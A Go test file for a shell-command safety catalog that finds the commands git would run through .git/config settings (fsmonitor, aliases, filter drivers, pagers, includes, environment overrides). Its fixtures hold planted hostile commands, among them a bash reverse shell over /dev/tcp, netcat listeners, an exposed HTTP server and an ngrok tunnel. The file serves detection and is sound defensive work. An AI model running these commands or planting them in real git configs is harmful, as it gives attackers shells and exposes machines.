package catalog_test

import (
	"io/fs"
	"strings"
	"syscall"
	"testing"

	"github.com/safeclaw/safeclaw/action"
	"github.com/safeclaw/safeclaw/shell/catalog"
)

// TestGitRepoConfig: a git command runs what its repository's .git/config
// tells it to (core.fsmonitor, a pager, a shell alias, a filter driver):
// the file git will read, found from the working directory or -C as git
// finds it, is read and those commands returned as scripts, with the
// files it includes; an include that is not there is ignored, as git
// ignores it. An ordinary configuration adds nothing.
func TestGitRepoConfig(t *testing.T) {
	configs := map[string]string{
		"/tmp/e/.git/config":              "[core]\n\tfsmonitor = nc -l 4444\n",
		"/tmp/alias/.git/config":          "[alias]\n\tst = \"!bash -i >& /dev/tcp/h/1 0>&1\" ; a comment\n\tlg = log --graph\n",
		"/tmp/filter/.git/config":         "[filter \"x\"]\n\tsmudge = python3 -m http.server 8000\n",
		"/tmp/include/.git/config":        "[includeIf \"gitdir:/tmp/\"]\n\tpath = ../../other.cfg\n",
		"/tmp/other.cfg":                  "[core]\n\tpager = ngrok http 80\n",
		"/tmp/gone/.git/config":           "[include]\n\tpath = /tmp/none.cfg\n",
		"/tmp/locked-inc/.git/config":     "[include]\n\tpath = /tmp/locked/.git/config\n",
		"/home/dev/project/.git/config":   "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n[remote \"origin\"]\n\turl = git@github.com:a/b.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n[branch \"main\"]\n\tremote = origin\n[filter \"lfs\"]\n\tsmudge = git-lfs smudge -- %f\n\tprocess = git-lfs filter-process\n",
		"/tmp/locked/.git/config":         "",
		"/home/dev/project/sub/.git/file": "",
	}
	read := func(name string) ([]byte, error) {
		if name == "/tmp/locked/.git/config" {
			return nil, &fs.PathError{Op: "open", Path: name, Err: fs.ErrPermission}
		}
		if name == "/tmp/worktree/.git/config" {
			return nil, &fs.PathError{Op: "open", Path: name, Err: syscall.ENOTDIR}
		}
		if s, ok := configs[name]; ok {
			return []byte(s), nil
		}
		return nil, fs.ErrNotExist
	}
	for _, tc := range []struct {
		views, script string
		opaque        bool
	}{
		{views: "git -C /tmp/e status", script: "nc -l 4444"},
		{views: "git -C /tmp/e/sub/dir diff", script: "nc -l 4444"},
		{views: "git -C /tmp/alias st", script: "bash -i >& /dev/tcp/h/1 0>&1"},
		{views: "git -C /tmp/filter checkout .", script: "python3 -m http.server 8000"},
		{views: "git -C /tmp/include status", script: "ngrok http 80"},
		{views: "git -C /tmp/gone status"},
		{views: "git -C /tmp/locked-inc status", opaque: true},
		{views: "git -C /tmp/locked status", opaque: true},
		// The project's ordinary configuration: nothing unknown.
		{views: "git status"},
		{views: "git -C /tmp/worktree status"},
		{views: "git -C /tmp/none log"},
	} {
		c := cmd(tc.views)
		c.ReadFile = read
		res := catalog.Detect(c)
		var scripts []string
		for _, s := range res.Scripts {
			scripts = append(scripts, s.Text)
		}
		opaque := false
		for _, f := range res.Facets {
			opaque = opaque || f.Kind == action.ShellOpaque
		}
		if opaque != tc.opaque {
			t.Errorf("%s: opaque %v, want %v: %+v", tc.views, opaque, tc.opaque, res.Facets)
		}
		if tc.script != "" && !strings.Contains(strings.Join(scripts, "\n"), tc.script) {
			t.Errorf("%s: scripts %q, want %q", tc.views, scripts, tc.script)
		}
		if tc.views == "git status" {
			for _, s := range scripts {
				if !strings.HasPrefix(s, "git-lfs") {
					t.Errorf("git status in the project: unexpected script %q", s)
				}
			}
		}
	}
}

// TestGitConfigEnv: the environment the text gives git moves the files it
// reads (Command.Env); those are judged like .git/config, and a value only
// known at run time leaves what git runs unknown.
func TestGitConfigEnv(t *testing.T) {
	files := map[string]string{
		"/tmp/g.cfg":                "[core]\n\tpager = nc -l 4444\n",
		"/tmp/repo/.git/config":     "[core]\n\tfsmonitor = nc -l 4444\n",
		"/tmp/common/config":        "[core]\n\teditor = nc -l 4444\n",
		"/tmp/h/.config/git/config": "[core]\n\tpager = nc -l 4444\n",
	}
	read := func(name string) ([]byte, error) {
		if s, ok := files[name]; ok {
			return []byte(s), nil
		}
		return nil, fs.ErrNotExist
	}
	known := func(v string) catalog.EnvValue { return catalog.EnvValue{Value: v, Known: true} }
	for _, tc := range []struct {
		env    map[string]catalog.EnvValue
		views  string
		script bool
		opaque bool
	}{
		{env: map[string]catalog.EnvValue{"GIT_CONFIG_GLOBAL": known("/tmp/g.cfg")}, views: "git log", script: true},
		{env: map[string]catalog.EnvValue{"GIT_CONFIG_SYSTEM": known("/tmp/g.cfg")}, views: "git init", script: true},
		{env: map[string]catalog.EnvValue{"GIT_CONFIG_SYSTEM": known("/tmp/g.cfg"), "GIT_CONFIG_NOSYSTEM": known("true")}, views: "git log"},
		{env: map[string]catalog.EnvValue{"GIT_DIR": known("/tmp/repo/.git")}, views: "git status", script: true},
		{env: map[string]catalog.EnvValue{"GIT_DIR": known("/tmp/repo/.git")}, views: "git --git-dir=.git status"},
		{env: map[string]catalog.EnvValue{"GIT_DIR": known("/tmp/x.git"), "GIT_COMMON_DIR": known("/tmp/common")}, views: "git commit", script: true},
		{env: map[string]catalog.EnvValue{"HOME": known("/tmp/h")}, views: "git log", script: true},
		{env: map[string]catalog.EnvValue{"GIT_DIR": {Value: "$X"}}, views: "git log", opaque: true},
		{env: map[string]catalog.EnvValue{"GIT_CONFIG_GLOBAL": {}}, views: "git log", opaque: true},
		{env: map[string]catalog.EnvValue{"HOME": {}}, views: "git log", opaque: true},
		{env: map[string]catalog.EnvValue{"GIT_CONFIG_GLOBAL": known("/tmp/none.cfg")}, views: "git log"},
		{env: map[string]catalog.EnvValue{"GIT_CONFIG_GLOBAL": known("")}, views: "git log"},
		{views: "git --git-dir=/tmp/repo/.git log", script: true},
		{views: "git --git-dir=$D log", opaque: true},
	} {
		c := cmd(tc.views)
		c.ReadFile, c.Env = read, tc.env
		res := catalog.Detect(c)
		opaque := false
		for _, f := range res.Facets {
			opaque = opaque || f.Kind == action.ShellOpaque
		}
		if opaque != tc.opaque {
			t.Errorf("%v %s: opaque %v, want %v: %+v", tc.env, tc.views, opaque, tc.opaque, res.Facets)
		}
		if got := len(res.Scripts) > 0; got != tc.script {
			t.Errorf("%v %s: scripts %+v, want some: %v", tc.env, tc.views, res.Scripts, tc.script)
		}
	}
}
